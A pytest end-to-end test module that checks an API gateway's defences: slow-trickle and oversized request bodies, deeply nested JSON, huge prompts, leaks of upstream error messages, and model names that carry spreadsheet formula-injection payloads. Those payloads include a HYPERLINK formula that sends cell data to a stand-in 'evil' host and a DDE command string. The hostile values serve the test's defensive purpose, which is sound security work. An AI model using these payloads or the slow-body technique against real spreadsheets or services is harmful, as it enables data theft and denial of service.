"""Hostile input at the gateway (issue 11, items 2, 3, 4, 5 and 12), against a real gateway
process (one uvicorn worker, so "the same worker" is certain) and a mock upstream of its own.

- 2: a large prompt is parsed and counted off the event loop, and cheap refusals come first;
- 3: every request body has a read deadline and a size limit, before any work;
- 4: deeply nested JSON is a 400 on /v1 and on the management API, never a 500;
- 5: model names outside the catalog's character set are refused before anything is held;
- 12: an upstream's 4xx is told in Tollgate's words (its param / code kept, never its message).

Each test's tenant has a provider key of its own (dedicated to it) at this module's mock, so
nothing here changes what the other end-to-end tests' tenants are routed to.
"""
from __future__ import annotations

import asyncio
import json
import select
import socket
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from types import SimpleNamespace
from typing import Any

import httpx
import openai
import pytest
from django.core.exceptions import ValidationError
from django.http import HttpResponse
from django.test import RequestFactory

from gateway.bodies import Endpoint
from gateway.mock_upstream import MockUpstream, start_subprocess
from gateway.mock_upstream.app import LEAKY_ORGANIZATION, LEAKY_URL
from gateway.observe import Observation
from quotas.engine import QuotaEngine, Reservation
from quotas.keys import tenant_tag
from quotas.runtime import get_engine
from tests.gateway.conftest import GatewayServer, client_for, committed, start_gateway
from tests.support.gateway_calls import usage_events
from tests.world import World

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=False)]

BODY_TIMEOUT_S = 1.0  # REQUEST_BODY_TIMEOUT_SECONDS of this module's gateway
MAX_V1_BODY = 40 * 1024 * 1024  # room for the large-prompt test
MAX_OTHER_BODY = 64 * 1024  # REQUEST_MAX_BODY_BYTES
HI = [{"role": "user", "content": "hi"}]


@dataclass(frozen=True)
class Tenant:
    tenant_id: int
    plaintext: str

    @property
    def tag(self) -> str:
        return tenant_tag(self.tenant_id)


@pytest.fixture(scope="module")
def mock() -> Iterator[MockUpstream]:
    with start_subprocess() as upstream:
        yield upstream


@pytest.fixture(scope="module")
def gateway(django_db_setup: None, tmp_path_factory: pytest.TempPathFactory,
            mock: MockUpstream) -> Iterator[GatewayServer]:
    server = start_gateway(tmp_path_factory.mktemp("gateway-input"), workers=1,
                           REQUEST_BODY_TIMEOUT_SECONDS=str(BODY_TIMEOUT_S),
                           GATEWAY_MAX_BODY_BYTES=str(MAX_V1_BODY),
                           REQUEST_MAX_BODY_BYTES=str(MAX_OTHER_BODY))
    yield server
    server.stop()


@pytest.fixture
def make_tenant(django_db_blocker: Any, mock: MockUpstream) -> Any:
    """make_tenant(**tenant overrides): a committed tenant, project and key, with a provider key
    of its own at this module's mock (pricing the models the catalog does not know)."""
    from gateway.prices import Price
    from gateway.providers import create_provider_key
    from tenants.services import create_project, create_tenant, issue_key

    def make(**overrides: Any) -> Tenant:
        slug = f"sec-{uuid.uuid4().hex[:10]}"

        def create() -> Tenant:
            tenant = create_tenant(slug, plan_name="free", actor="test", **overrides)
            project = create_project(tenant, "app", actor="test")
            create_provider_key(f"mock-{slug}", base_url=mock.base_url, secret="sk-sec",
                                tenant=tenant, default_price=Price(1_000_000, 2_000_000))
            return Tenant(tenant.pk, issue_key(project, actor="test").plaintext)

        return committed(django_db_blocker, create)

    return make


@pytest.fixture
def engine() -> QuotaEngine:
    return get_engine()


def _ready(server: GatewayServer, key: str) -> None:
    """Wait until the worker's provider pool has the tenant's new provider key (pub/sub)."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        answer = _post(server, key, {"model": "sec-warm", "max_tokens": 1, "messages": HI})
        if answer.status_code == 200:
            return
        time.sleep(0.05)
    raise AssertionError(f"the gateway never served the tenant: {answer.text}")


def _post(server: GatewayServer, key: str, body: Any, path: str = "/v1/chat/completions",
          raw: bytes | None = None) -> httpx.Response:
    content = raw if raw is not None else json.dumps(body).encode()
    return httpx.post(f"{server.url}{path}", content=content, timeout=60,
                      headers={"Authorization": f"Bearer {key}",
                               "Content-Type": "application/json"})


def _error(response: httpx.Response) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"message", "type", "param", "code"}
    return body["error"]


# -- raw HTTP ------------------------------------------------------------------------------------


def _connect(server: GatewayServer) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=30)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _head(method: str, path: str, headers: dict[str, str]) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", *(f"{k}: {v}" for k, v in
                                                               headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _read_until_closed(sock: socket.socket) -> bytes:
    """Everything the server sends until it closes the connection (a timeout fails the test:
    the connection was not closed)."""
    received = b""
    try:
        while chunk := sock.recv(65536):
            received += chunk
    except ConnectionResetError:
        # Closed with part of our body unread, the server's kernel resets the connection.
        pass
    return received


def _split(response: bytes, dechunk: bool = True) -> tuple[int, dict[str, str], bytes]:
    head, _, body = response.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, _, v in (h.partition(":") for h in header_lines)}
    if dechunk and headers.get("transfer-encoding") == "chunked":
        body = _dechunk(body)
    return int(status_line.split()[1]), headers, body


def _dechunk(body: bytes) -> bytes:
    data = b""
    while True:
        size_line, _, body = body.partition(b"\r\n")
        size = int(size_line, 16)
        if size == 0:
            return data
        data, body = data + body[:size], body[size + 2:]


TRICKLE_BYTES = 400  # one every 50 ms: 20 s, twenty times the deadline


def _trickle(server: GatewayServer, path: str, declared: int) -> tuple[int, bytes]:
    """Declare a body of `declared` bytes and send it one byte at a time, far slower than the
    deadline allows, up to TRICKLE_BYTES; return how many bytes were sent when the server
    answered (TRICKLE_BYTES and nothing if it never did), and everything it sent."""
    with _connect(server) as sock:
        sock.sendall(_head("POST", path, {"Content-Type": "application/json",
                                          "Content-Length": str(declared)}))
        for sent in range(TRICKLE_BYTES):
            readable, _, _ = select.select([sock], [], [], 0.05)
            if readable:
                return sent, _read_until_closed(sock)
            sock.sendall(b" ")
        return TRICKLE_BYTES, b""


# -- item 3: a read deadline and a size limit for every request body ----------------------------


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/console/login/", "/api/tenants/"])
def test_a_trickling_body_is_cut_at_the_deadline_and_the_connection_closed(
        gateway: GatewayServer, path: str) -> None:
    sent, response = _trickle(gateway, path, declared=60_000)
    assert sent < TRICKLE_BYTES  # answered while the body was still arriving, then closed
    status, headers, body = _split(response)
    assert status == 408
    assert headers["connection"] == "close"
    said = f"The request body was not received within {BODY_TIMEOUT_S:g} s."  # on every path
    if path.startswith("/v1/"):
        error = json.loads(body)["error"]
        assert (error["type"], error["code"], error["message"]) == (
            "invalid_request_error", "request_timeout", said)
    elif path.startswith("/api/"):
        assert json.loads(body) == {"detail": said}
    else:
        assert headers["content-type"].startswith("text/plain")
        assert body.decode() == said


@pytest.mark.parametrize("path", ["/console/login/", "/api/tenants/", "/admin/login/"])
def test_an_oversized_body_is_refused_before_it_is_sent(gateway: GatewayServer,
                                                        path: str) -> None:
    """The Content-Length is over REQUEST_MAX_BODY_BYTES: the answer comes without a byte of the
    body having been sent, so nothing was read or spooled."""
    with _connect(gateway) as sock:
        sock.sendall(_head("POST", path, {"Content-Type": "application/x-www-form-urlencoded",
                                          "Content-Length": str(MAX_OTHER_BODY + 1)}))
        status, headers, body = _split(_read_until_closed(sock))
    assert status == 413
    assert headers["connection"] == "close"
    assert f"larger than {MAX_OTHER_BODY} bytes".encode() in body


def test_an_oversized_chunked_body_is_cut_at_the_limit(gateway: GatewayServer) -> None:
    """No Content-Length (chunked): the router stops reading at the limit and answers 413."""
    chunk = b"a" * 8192
    with _connect(gateway) as sock:
        sock.sendall(_head("POST", "/console/login/", {
            "Content-Type": "application/x-www-form-urlencoded",
            "Transfer-Encoding": "chunked"}))
        sent = 0
        while sent < 64 * MAX_OTHER_BODY:
            # Paced, so the answer is seen before more is sent into a closed connection.
            readable, _, _ = select.select([sock], [], [], 0.02)
            if readable:
                break
            sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            sent += len(chunk)
        status, headers, _ = _split(_read_until_closed(sock))
    assert (status, headers["connection"]) == (413, "close")
    assert sent < 64 * MAX_OTHER_BODY  # answered while the client was still sending


def test_an_oversized_v1_body_is_refused_before_it_is_sent(gateway: GatewayServer) -> None:
    with _connect(gateway) as sock:
        sock.sendall(_head("POST", "/v1/chat/completions", {
            "Content-Type": "application/json", "Content-Length": str(MAX_V1_BODY + 1)}))
        status, headers, body = _split(_read_until_closed(sock))
    assert (status, headers["connection"]) == (400, "close")
    error = json.loads(body)["error"]
    assert (error["code"], error["message"]) == (
        "request_too_large", f"The request body is larger than {MAX_V1_BODY} bytes.")


def test_a_body_within_the_limits_still_works(gateway: GatewayServer) -> None:
    """A console login post below the limit reaches Django (its CSRF check answers)."""
    response = httpx.post(f"{gateway.url}/console/login/", data={"username": "x" * 1000},
                          timeout=30)
    assert response.status_code == 403  # Django's CSRF refusal: the body was read and used


# -- item 4: deep JSON --------------------------------------------------------------------------


def _deep(depth: int) -> bytes:
    return b'{"model": "sec-deep", "messages": ' + b"[" * depth + b"]" * depth + b"}"


@pytest.mark.parametrize("depth", [100, 100_000])
def test_deeply_nested_json_on_v1_is_a_400_in_openai_shape(
        gateway: GatewayServer, make_tenant: Any, engine: QuotaEngine, depth: int) -> None:
    t = make_tenant()
    response = _post(gateway, t.plaintext, None, raw=_deep(depth))
    assert response.status_code == 400
    error = _error(response)
    assert (error["type"], error["code"], error["param"]) == (
        "invalid_request_error", "json_too_deep", None)
    assert error["message"] == "The JSON body is nested more than 64 levels deep."
    assert engine.open_hold_ids(t.tag) == [] and usage_events(engine, t.tag) == []


def test_json_at_the_depth_limit_is_still_parsed(gateway: GatewayServer,
                                                 make_tenant: Any) -> None:
    """64 levels are allowed: the body gets as far as its field checks."""
    t = make_tenant()
    body = b'{"model": "sec-deep", "messages": [{"role": "user", "content": "hi"}], "n": ' + \
        b"[" * 63 + b"]" * 63 + b"}"
    error = _error(_post(gateway, t.plaintext, None, raw=body))
    assert (error["code"], error["param"]) == (None, "n")


@pytest.mark.parametrize("depth", [100, 100_000])
def test_deeply_nested_json_on_the_management_api_is_a_400(world: World, depth: int) -> None:
    url = f"/api/tenants/{world.acme.public_id}/projects/"
    before = world.acme.projects.count()
    response = world.client(world.owner).post(url, b'{"name": ' + b"[" * depth + b"]" * depth
                                              + b"}", content_type="application/json")
    assert response.status_code == 400
    assert response.json() == {"detail": "The JSON body is nested more than 64 levels deep."}
    assert world.acme.projects.count() == before


# -- item 5: model names outside the catalog's character set ------------------------------------


FORMULA = '=HYPERLINK("https://evil/?"&C2,"x")'


@pytest.mark.parametrize("model", [FORMULA, "@SUM(A1)", "-2+3", "gpt 4o", "gpt-4o\r"])
def test_a_model_name_outside_the_catalog_set_is_refused_before_anything_is_held(
        gateway: GatewayServer, make_tenant: Any, engine: QuotaEngine,
        django_db_blocker: Any, model: str) -> None:
    from billing.ledger import drain_tenant
    from billing.models import UsageRecord

    t = make_tenant()
    _ready(gateway, t.plaintext)
    events_before = len(usage_events(engine, t.tag))
    with pytest.raises(openai.BadRequestError) as info:
        client_for(gateway, t.plaintext).chat.completions.create(model=model, messages=HI)
    assert info.value.status_code == 400
    assert (info.value.code, info.value.param, info.value.type) == (
        "invalid_model", "model", "invalid_request_error")
    assert info.value.body["message"].startswith("Invalid model name. A model name is 1 to 128")
    assert engine.open_hold_ids(t.tag) == []
    assert len(usage_events(engine, t.tag)) == events_before  # no event: no ledger row
    committed(django_db_blocker, lambda: drain_tenant(engine.client, t.tenant_id))
    models = committed(django_db_blocker, lambda: list(
        UsageRecord.objects.filter(tenant_id=t.tenant_id).values_list("model", flat=True)))
    assert models == ["sec-warm"]


def test_the_catalog_refuses_the_same_names(db: None) -> None:
    from gateway.models import ModelAlias, ModelSpec
    from gateway.prices import is_model_name, save_alias, save_model_spec

    with pytest.raises(ValidationError) as info:
        save_model_spec(ModelSpec(name=FORMULA, tokenizer="heuristic", context_window=1000,
                                  default_output_tokens=10, max_output_tokens=100,
                                  input_price_micros_per_mtok=1, output_price_micros_per_mtok=1))
    assert list(info.value.message_dict) == ["name"]
    spec = save_model_spec(ModelSpec(name="sec-model:v1/a@b=c", tokenizer="heuristic",
                                     context_window=1000, default_output_tokens=10,
                                     max_output_tokens=100, input_price_micros_per_mtok=1,
                                     output_price_micros_per_mtok=1))
    with pytest.raises(ValidationError) as info:
        save_alias(ModelAlias(alias="+cmd|' /C calc'!A0", model=spec))
    assert list(info.value.message_dict) == ["alias"]
    assert not ModelSpec.objects.filter(name=FORMULA).exists()
    assert [is_model_name(n) for n in ("gpt-4o", "ft:gpt-4o-mini:acme::x1", "a" * 128,
                                       "a" * 129, "", "=1", "\tx", "x,y", 'x"y')] == [
        True, True, True, False, False, False, False, False, False]


# -- item 12: upstream 4xx bodies in Tollgate's words -------------------------------------------


@pytest.mark.parametrize(("status", "error_class", "code", "message"), [
    (404, openai.NotFoundError, "model_not_found",
     ("The upstream provider does not serve the requested model or resource (parameter "
      "'model'): model_not_found.")),
    (400, openai.BadRequestError, "invalid_value",
     ("The upstream provider rejected the request as invalid (parameter 'model'): "
      "invalid_value.")),
])
def test_an_upstream_client_error_never_shows_the_providers_words(
        gateway: GatewayServer, make_tenant: Any, engine: QuotaEngine, status: int,
        error_class: type[openai.APIStatusError], code: str, message: str) -> None:
    t = make_tenant()
    _ready(gateway, t.plaintext)
    with pytest.raises(error_class) as info:
        client_for(gateway, t.plaintext).chat.completions.create(
            model=f"sec-leak@status={status}@leaky", messages=HI)
    raw = info.value.response.text
    for secret in (LEAKY_ORGANIZATION, "acme-prod-eastus2", LEAKY_URL, "upstream.internal",
                   "Mock injected"):
        assert secret not in raw
    assert info.value.status_code == status
    assert info.value.body == {"message": message, "type": "invalid_request_error",
                               "param": "model", "code": code}
    assert engine.open_hold_ids(t.tag) == []
    released = [e for e in usage_events(engine, t.tag) if e["event"].get("st") == status]
    assert [e["event"]["outcome"] for e in released] == ["upstream_status"]


# -- item 2: cheap refusals first, large prompts off the event loop ------------------------------


def _words(n_bytes: int) -> str:
    return ("lorem ipsum dolor sit amet " * (n_bytes // 27 + 1))[:n_bytes]


def test_a_plan_without_requests_is_refused_before_the_body_is_parsed(
        gateway: GatewayServer, make_tenant: Any) -> None:
    t = make_tenant(requests_per_second=0)
    response = _post(gateway, t.plaintext, None, raw=b"{not json at all")
    assert response.status_code == 429  # not the 400 that parsing the body would give
    assert _error(response)["code"] == "rate_limit_exceeded"


def test_a_zero_quota_is_refused_before_the_prompt_is_counted(
        gateway: GatewayServer, make_tenant: Any, engine: QuotaEngine) -> None:
    """The prompt is far beyond the context window, which only counting it could tell: a
    tenant whose daily quota is 0 gets its 429 without that count."""
    t = make_tenant(tokens_per_day=0)
    body = {"model": "sec-zero", "messages": [{"role": "user", "content": _words(2_000_000)}]}
    response = _post(gateway, t.plaintext, body)
    assert response.status_code == 429
    error = _error(response)
    assert (error["code"], error["type"]) == ("insufficient_quota", "insufficient_quota")
    assert 1 <= int(response.headers["retry-after"]) <= 86_400
    assert engine.open_hold_ids(t.tag) == []
    # A tenant with quota gets the count's answer for the same body.
    other = make_tenant()
    assert _error(_post(gateway, other.plaintext, body))["code"] == "context_length_exceeded"


def _answered(sock: socket.socket) -> bool:
    """Whether the server has sent anything on `sock` yet (without waiting)."""
    readable, _, _ = select.select([sock], [], [], 0)
    return bool(readable)


def test_a_small_call_is_answered_while_a_large_prompt_is_being_counted(
        gateway: GatewayServer, make_tenant: Any) -> None:
    """One worker. A 24 MB prompt (seconds of parsing and counting, which end in a 400: far
    beyond the context window) is sent first; a small call from another tenant, sent once the
    large body has arrived, is answered while the large one has had no answer yet. Counted on
    the event loop, the large call would hold it until its 400 was sent, before the small one
    was even read."""
    big, small = make_tenant(), make_tenant()
    _ready(gateway, small.plaintext)
    payload = json.dumps({"model": "sec-big", "messages": [
        {"role": "user", "content": _words(24 * 1024 * 1024)}]}).encode()
    with _connect(gateway) as big_sock:
        big_sock.sendall(_head("POST", "/v1/chat/completions", {
            "Authorization": f"Bearer {big.plaintext}", "Content-Type": "application/json",
            "Content-Length": str(len(payload))}) + payload)
        time.sleep(0.3)  # let the worker finish reading it: it is counting from here on
        answer = _post(gateway, small.plaintext, {"model": "sec-small", "max_tokens": 2,
                                                  "messages": HI})
        assert answer.status_code == 200
        still_in_flight = not _answered(big_sock)
        big_sock.settimeout(60)
        status, _, body = _split(_read_until_closed_or_answer(big_sock))
    assert still_in_flight, f"the large call was answered first: {status} {body[:300]!r}"
    assert status == 400
    assert json.loads(body)["error"]["code"] == "context_length_exceeded"


def _read_until_closed_or_answer(sock: socket.socket) -> bytes:
    """One whole response (the connection stays open)."""
    received = b""
    while b"\r\n\r\n" not in received:
        received += sock.recv(65536)
    head, _, body = received.partition(b"\r\n\r\n")
    headers = _split(head + b"\r\n\r\n", dechunk=False)[1]
    if headers.get("transfer-encoding") == "chunked":
        while not body.endswith(b"\r\n0\r\n\r\n"):
            body += sock.recv(65536)
    else:
        while len(body) < int(headers["content-length"]):
            body += sock.recv(65536)
    return head + b"\r\n\r\n" + body


class CountingPool(ThreadPoolExecutor):
    """The estimation pool, counting the jobs handed to it."""

    def __init__(self) -> None:
        super().__init__(1, thread_name_prefix="test-estimate")
        self.jobs = 0

    def submit(self, fn: Any, /, *args: Any, **kwargs: Any) -> Any:
        self.jobs += 1
        return super().submit(fn, *args, **kwargs)


class AdmittingEngine:
    """The runtime's reserve: admits everything without a hold, recording each request."""

    def __init__(self) -> None:
        self.requests: list[Any] = []

    async def reserve(self, request: Any, sent: Any = None) -> Reservation:
        self.requests.append(request)
        return Reservation(admitted=True, request_id=request.request_id, granted=request.amount,
                           counters=(), refused=None, server_time_ms=0, hold=None)

    def send_reserve(self, request: Any) -> None:
        return None  # nothing is written ahead: reserve() does it all


@pytest.mark.parametrize(("prompt_chars", "jobs"), [(20, 0), (200_000, 1)])
def test_a_large_body_is_parsed_checked_and_counted_in_one_thread_job(
        db: None, monkeypatch: pytest.MonkeyPatch, settings: Any, prompt_chars: int,
        jobs: int) -> None:
    """Through the /v1 view up to the forward: a body past GATEWAY_ESTIMATE_THREAD_BYTES is one
    job on the estimation pool (it was two: the parse, then the count), a small one none; both
    are reserved once with the same estimate as counting inline gives."""
    from gateway import tokens, views
    from gateway.admission import estimate
    from gateway.bodies import parse_body
    from gateway.auth import load_key_context
    from gateway.catalog import Catalog
    from gateway.prices import Price, PriceBook
    from gateway.providers import ProviderPool, Upstream
    from tenants.api_key_format import parse_key
    from tenants.services import create_project, create_tenant, issue_key

    settings.GATEWAY_ESTIMATE_THREAD_BYTES = 64 * 1024
    pool = CountingPool()
    monkeypatch.setattr(tokens, "_pool", pool)
    forwarded: list[Any] = []

    async def forward(call: Any) -> HttpResponse:
        forwarded.append(call)
        return HttpResponse("forwarded")

    monkeypatch.setattr(views, "forward", forward)
    tenant = create_tenant(f"sec-{uuid.uuid4().hex[:10]}", plan_name="free", actor="test")
    issued = issue_key(create_project(tenant, "app", actor="test"), actor="test")
    ctx = load_key_context(parse_key(issued.plaintext))
    assert ctx is not None
    engine = AdmittingEngine()
    runtime = SimpleNamespace(
        catalog=Catalog.of([], PriceBook.of(list_prices={"sec-one": Price(1, 2)})),
        pool=ProviderPool([Upstream(id=1, public_id="pk_1", base_url="http://upstream.test/v1",
                                    secret="sk-test", rpm_capacity=None, tpm_capacity=None)]),
        reserve=engine.reserve, send_reserve=engine.send_reserve)
    raw = json.dumps({"model": "sec-one", "max_tokens": 5, "messages": [
        {"role": "user", "content": _words(prompt_chars)}]}).encode()
    request = RequestFactory().post("/v1/chat/completions", data=raw,
                                    content_type="application/json")
    try:
        response = asyncio.run(views._admitted(Endpoint.CHAT, runtime, ctx, request, "req_1",
                                               time.monotonic(), Observation("chat/completions")))
    finally:
        pool.shutdown()
    assert (response.status_code, response.content) == (200, b"forwarded")
    assert pool.jobs == jobs
    [reserved] = engine.requests
    inline = estimate(parse_body(Endpoint.CHAT, raw), runtime.catalog.resolve("sec-one"), ctx,
                      Price(1, 2))
    assert (reserved.amount, reserved.input_tokens) == (inline.amount, inline.prompt_tokens)
    assert [call.admission.estimate for call in forwarded] == [inline]


def test_the_large_text_count_of_the_heuristic_is_the_inline_count() -> None:
    """Large ASCII texts are split with the GIL released (for the estimation threads): the
    same count as the stdlib split gives."""
    from gateway import tokens

    text = "The quick brown Fox jumps, 42 times; over   the lazyDog's back!\n" * 2000
    assert len(text) >= tokens._LARGE_TEXT_CHARS
    expected = sum((len(piece) + 3) // 4
                   for piece in tokens._ASCII_HEURISTIC_PIECES.findall(text))
    assert tokens.count_text(text, tokens.HEURISTIC) == expected
